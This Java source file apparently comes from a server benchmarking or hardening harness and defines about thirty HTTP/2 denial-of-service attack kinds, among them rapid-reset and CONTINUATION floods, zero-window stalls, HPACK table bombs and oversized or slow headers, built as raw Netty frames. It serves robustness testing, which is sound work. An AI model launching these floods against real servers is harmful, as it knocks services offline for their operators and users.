// SPDX-License-Identifier: Apache-2.0
package io.github.harp.bench.attack.kinds;

import static io.github.harp.bench.attack.kinds.Frames.CONTINUATION;
import static io.github.harp.bench.attack.kinds.Frames.DATA;
import static io.github.harp.bench.attack.kinds.Frames.END_HEADERS;
import static io.github.harp.bench.attack.kinds.Frames.GOAWAY;
import static io.github.harp.bench.attack.kinds.Frames.HEADERS;
import static io.github.harp.bench.attack.kinds.Frames.INITIAL_WINDOW;
import static io.github.harp.bench.attack.kinds.Frames.PING;
import static io.github.harp.bench.attack.kinds.Frames.PRIORITY;
import static io.github.harp.bench.attack.kinds.Frames.RST_STREAM;
import static io.github.harp.bench.attack.kinds.Frames.SETTINGS;
import static io.github.harp.bench.attack.kinds.Frames.WINDOW_UPDATE;
import static io.github.harp.bench.attack.kinds.Frames.field;
import static io.github.harp.bench.attack.kinds.Frames.h2;
import static io.github.harp.bench.attack.kinds.Http1Attacks.LARGE;
import static io.github.harp.bench.attack.kinds.Http1Attacks.SINK;
import static io.github.harp.bench.attack.kinds.Http1Attacks.SMALL;

import io.github.harp.bench.attack.kinds.AttackKind.Script;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.util.List;
import java.util.function.IntFunction;
import java.util.function.Supplier;

/** What clients of HTTP/2 do, without TLS unless asked for. */
final class Http2Attacks {
  private static final int STREAMS = 100;
  private static final int FRAMES_AT_ONCE = 50;
  private static final int WINDOW = 65_535;
  private static final String SILENT = HostileExApp.path("silent");

  static final List<AttackKind> ALL =
      List.of(
          window("h2-zero-window", 40, 0, line -> each(line, id -> Frames.get(id, LARGE))),
          window("h2-zero-window-small", 40, 0, line -> line.flood(requests(SMALL))),
          window("h2-tiny-windows", 40, 1, line -> tiny(line)),
          kind("h2-deaf", 40, line -> each(line.deaf(), id -> Frames.get(id, LARGE))),
          kind("h2-deaf-pings", 100, line -> line.deaf().flood(times(h2(PING, 0, 0, 8)))),
          kind("h2-deaf-settings", 100, line -> line.deaf().flood(times(h2(SETTINGS, 0, 0, 0)))),
          kind("h2-deaf-404", 100, line -> line.deaf().flood(requests("/nothing"))),
          kind("h2-rapid-reset", 20, line -> line.flood(resets(SMALL))),
          kind("h2-rapid-reset-silent", 20, line -> line.flood(resets(SILENT))),
          kind("h2-settings", 50, line -> line.flood(times(Frames.setting(INITIAL_WINDOW, 9)))),
          kind("h2-window-changes", 20, Http2Attacks::windowChanges),
          kind("h2-pings", 50, line -> line.flood(times(h2(PING, 0, 0, 8)))),
          kind("h2-priorities", 50, line -> line.flood(numbered(id -> h2(PRIORITY, 0, id, 5)))),
          kind("h2-empty-data", 50, line -> after(line, h2(DATA, 0, 1, 0))),
          kind("h2-byte-data", 50, line -> after(line, h2(DATA, 0, 1, 1))),
          kind("h2-refused", 50, line -> line.flood(numbered(Http2Attacks::refused))),
          kind(
              "h2-refused-late", 50, line -> line.send(refused(1)).flood(times(h2(DATA, 0, 1, 1)))),
          kind("h2-window-updates", 50, line -> after(line, Frames.number(WINDOW_UPDATE, 0, 1))),
          kind("h2-unknown-frames", 50, line -> line.flood(times(h2(0x77, 0, 0, 100)))),
          kind(
              "h2-continuations",
              100,
              line -> headless(line).flood(times(h2(CONTINUATION, 0, 1, 1)))),
          kind(
              "h2-empty-continuations",
              100,
              line -> headless(line).flood(times(h2(CONTINUATION, 0, 1, 0)))),
          kind(
              "h2-slow-heads",
              500,
              line -> headless(line).every(100, () -> line.send(slowField()))),
          kind(
              "h2-half-frames",
              1000,
              line -> line.send(h2(HEADERS, 4, 1, 16_000).slice(0, 12_000))),
          kind("h2-big-heads", 40, line -> each(line, id -> big(id, 20, 1200))),
          kind("h2-many-headers", 30, line -> each(line, id -> big(id, 120, 1))),
          kind("h2-table-bomb", 50, Http2Attacks::tableBomb),
          kind("h2-slow-app", 40, line -> each(line, id -> Frames.get(id, SILENT))),
          kind("h2-stalled-uploads", 40, line -> each(line, id -> upload(id, SILENT))),
          kind("h2-trailers", 50, line -> each(line, Http2Attacks::trailers)),
          kind("h2-goaway", 100, line -> leave(line)),
          kind("h2-connects", 40, line -> each(line, Http2Attacks::connect)),
          kind(
              "h2-cut",
              100,
              line -> each(line.after(20, line::reset), id -> Frames.get(id, LARGE))),
          kind("h2-preface-only", 1500, line -> {}));

  private Http2Attacks() {}

  /** Requests without end, a few at once. */
  static Supplier<ByteBuf> requests(String path) {
    return numbered(id -> Frames.get(id, path));
  }

  private static AttackKind kind(String name, int connections, Script script) {
    return window(name, connections, WINDOW, script);
  }

  private static AttackKind window(String name, int connections, int window, Script script) {
    Script whole = line -> script.begin(line.send(Frames.hello(INITIAL_WINDOW, window)));
    return new AttackKind(name, Door.FRONT, connections, whole);
  }

  private static void each(Line line, IntFunction<ByteBuf> frame) {
    for (int i = 0; i < STREAMS; i++) {
      line.send(frame.apply(2 * i + 1));
    }
  }

  private static Supplier<ByteBuf> times(ByteBuf frame) {
    var all = Unpooled.buffer();
    for (int i = 0; i < FRAMES_AT_ONCE; i++) {
      all.writeBytes(frame.duplicate());
    }
    var kept = Unpooled.unreleasableBuffer(all);
    return kept::duplicate;
  }

  /** Frames of one stream after the other. */
  private static Supplier<ByteBuf> numbered(IntFunction<ByteBuf> frame) {
    var next = new int[] {1};
    return () -> {
      var all = Unpooled.buffer();
      for (int i = 0; i < FRAMES_AT_ONCE; i++, next[0] += 2) {
        all.writeBytes(frame.apply(next[0]));
      }
      return all;
    };
  }

  private static Supplier<ByteBuf> resets(String path) {
    return numbered(
        id -> Unpooled.wrappedBuffer(Frames.get(id, path), Frames.number(RST_STREAM, id, 8)));
  }

  /** One byte of each stream at a time. */
  private static void tiny(Line line) {
    each(line, id -> Frames.get(id, LARGE));
    line.every(100, () -> each(line, id -> Frames.number(WINDOW_UPDATE, id, 1)));
  }

  private static void windowChanges(Line line) {
    each(line, id -> Frames.get(id, LARGE));
    line.flood(
        () ->
            Unpooled.wrappedBuffer(
                Frames.setting(INITIAL_WINDOW, 0), Frames.setting(INITIAL_WINDOW, WINDOW)));
  }

  private static void after(Line line, ByteBuf frame) {
    line.send(h2(HEADERS, END_HEADERS, 1, Frames.block("PUT", SINK))).flood(times(frame));
  }

  /** Malformed, with a body. */
  private static ByteBuf refused(int stream) {
    var block = field(Frames.block("PUT", SINK), "te", "gzip");
    return Unpooled.wrappedBuffer(h2(HEADERS, END_HEADERS, stream, block), h2(DATA, 0, stream, 1));
  }

  private static Line headless(Line line) {
    return line.send(h2(HEADERS, 0, 1, Frames.block("GET", SMALL)));
  }

  private static ByteBuf slowField() {
    return h2(CONTINUATION, 0, 1, field(Unpooled.buffer(), "x-a", "a"));
  }

  private static ByteBuf big(int stream, int fields, int bytes) {
    var block = Frames.block("GET", SILENT);
    for (int i = 0; i < fields; i++) {
      field(block, "x-a" + i, "a".repeat(bytes));
    }
    if (block.readableBytes() <= 16_384) {
      return h2(HEADERS, 5, stream, block);
    }
    var first = block.readRetainedSlice(16_384);
    return Unpooled.wrappedBuffer(
        h2(HEADERS, 1, stream, first), h2(CONTINUATION, END_HEADERS, stream, block));
  }

  /** One field of 4,000 bytes in the table, named again and again by a byte each. */
  private static void tableBomb(Line line) {
    var first = Frames.indexedField(Frames.block("GET", SILENT), "x-a", "a".repeat(3900));
    line.send(h2(HEADERS, 5, 1, first));
    line.flood(
        numbered(
            id -> {
              var block = Frames.block("GET", SILENT);
              for (int i = 0; i < 2000; i++) {
                block.writeByte(0x80 | 62);
              }
              return h2(HEADERS, 5, id + 2, block);
            }));
  }

  private static ByteBuf upload(int stream, String path) {
    return Unpooled.wrappedBuffer(
        h2(HEADERS, END_HEADERS, stream, Frames.block("PUT", path)), h2(DATA, 0, stream, 600));
  }

  private static ByteBuf trailers(int stream) {
    var trailers = Unpooled.buffer();
    for (int i = 0; i < 100; i++) {
      field(trailers, "x-t" + i, "a".repeat(50));
    }
    return Unpooled.wrappedBuffer(upload(stream, SILENT), h2(HEADERS, 5, stream, trailers));
  }

  private static void leave(Line line) {
    each(line, id -> Frames.get(id, SILENT));
    line.send(h2(GOAWAY, 0, 0, 8)).after(100, line::close);
  }

  private static ByteBuf connect(int stream) {
    var block = field(Frames.block("CONNECT", SILENT), ":protocol", "websocket");
    return h2(HEADERS, END_HEADERS, stream, block);
  }
}
